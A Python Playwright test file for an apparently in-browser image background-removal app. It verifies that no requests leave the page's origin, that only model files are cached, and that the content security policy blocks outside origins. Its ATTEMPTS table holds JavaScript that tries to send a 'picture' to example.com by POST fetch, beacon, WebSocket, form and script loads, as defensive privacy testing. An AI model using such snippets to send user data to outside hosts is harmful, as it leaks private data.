"""Nothing leaves the device, and no picture is stored unless the person asks for it."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Request

from tests.browser.backdrop import Backdrop, Shot

# Only a person follows a link; it loads nothing, and names no page that it came from.
LINK = re.compile(r'<a href="https://[^"]*" target="_blank" rel="noopener noreferrer">')
STORED = """async () => ({
  local: localStorage.length,
  session: sessionStorage.length,
  records: (await Promise.all((await indexedDB.databases()).map(({name}) => new Promise(done => {
    const opening = indexedDB.open(name);
    opening.onsuccess = () => {
      const database = opening.result, stores = Array.from(database.objectStoreNames);
      if (!stores.length) return done(0);
      const counting = database.transaction(stores).objectStore(stores[0]).count();
      counting.onsuccess = () => done(counting.result);
    };
  })))).reduce((sum, count) => sum + count, 0),
  cookies: document.cookie,
  cached: (await Promise.all((await caches.keys()).map(async name =>
    (await (await caches.open(name)).keys()).map(({url}) => new URL(url).pathname)))).flat(),
})"""


@pytest.mark.both_networks
@pytest.mark.parametrize("service_workers", ["allow"])
def test_a_whole_visit_only_reads_from_the_page_s_origin(
    backdrop: Backdrop, shot: Callable[..., Shot], address: str, service_workers: str
) -> None:
    asked: list[Request] = []

    def hear(request: Request) -> None:
        asked.append(request)

    backdrop.page.context.on("request", hear)
    backdrop.give(shot("coffee"))
    backdrop.wait_better()
    backdrop.save()
    assert any("isnet" in request.url for request in asked)
    assert any(request.service_worker for request in asked)
    assert all(request.url.startswith((address, "blob:")) for request in asked)
    assert all(request.method == "GET" and not request.post_data for request in asked)


def test_only_models_are_stored(backdrop: Backdrop, shot: Callable[..., Shot]) -> None:
    backdrop.give(shot("coffee"))
    backdrop.wait_cut()
    stored = backdrop.page.evaluate(STORED)
    cached = stored.pop("cached")
    assert cached
    assert all(path.endswith(".bin") for path in cached)
    # PyScript opens two databases at every start and leaves them empty.
    assert stored == {"local": 0, "session": 0, "records": 0, "cookies": ""}


ATTEMPTS = {
    "fetch": "fetch('https://example.com/').then(() => 'sent', () => 'refused')",
    "post": "fetch('https://example.com/', {method: 'POST', body: 'picture'})"
    ".then(() => 'sent', () => 'refused')",
    "image": """new Promise(done => { const image = new Image();
        image.onload = () => done('sent'); image.onerror = () => done('refused');
        image.src = 'https://example.com/picture.png'; })""",
    "script": """new Promise(done => { const script = document.createElement('script');
        script.onload = () => done('sent'); script.onerror = () => done('refused');
        script.src = 'https://example.com/script.js'; document.head.append(script); })""",
    "socket": """new Promise(done => { try { const socket = new WebSocket('wss://example.com/');
        socket.onopen = () => done('sent'); socket.onerror = () => done('refused');
        } catch { done('refused') } })""",
    "beacon": """new Promise(done => {
        addEventListener('securitypolicyviolation',
            ({blockedURI}) => blockedURI.endsWith('/beacon') && done('refused'));
        navigator.sendBeacon('https://example.com/beacon', 'picture'); })""",
    "form": """new Promise(done => {
        addEventListener('securitypolicyviolation',
            ({effectiveDirective}) => effectiveDirective === 'form-action' && done('refused'));
        const form = document.createElement('form'); form.method = 'post';
        form.action = 'https://example.com/'; document.body.append(form); form.submit(); })""",
}


@pytest.mark.console_errors
def test_the_policy_refuses_other_origins(backdrop: Backdrop, address: str) -> None:
    reached: list[str] = []
    backdrop.page.context.on("response", lambda answer: reached.append(answer.url))
    backdrop.wait_ready()
    for worker in backdrop.page.workers[:2]:  # the engine's and the networks'
        assert worker.evaluate(ATTEMPTS["fetch"]) == "refused"
    for name, attempt in ATTEMPTS.items():
        assert backdrop.page.evaluate(attempt) == "refused", name
    assert not [url for url in reached if not url.startswith((address, "blob:"))]


def test_no_file_names_another_origin_to_load_from(dist: Path) -> None:
    paths = [
        dist / "index.html",
        dist / "sw.js",
        *dist.glob("app-*/*.*"),
        *dist.glob("app-*/static/*"),
    ]
    for path in paths:
        if path.suffix in {".html", ".css", ".js", ".json"}:
            text = path.read_text("utf-8").replace("http://www.w3.org/", "")
            text = LINK.sub("<a>", text)
            assert "://" not in text, path
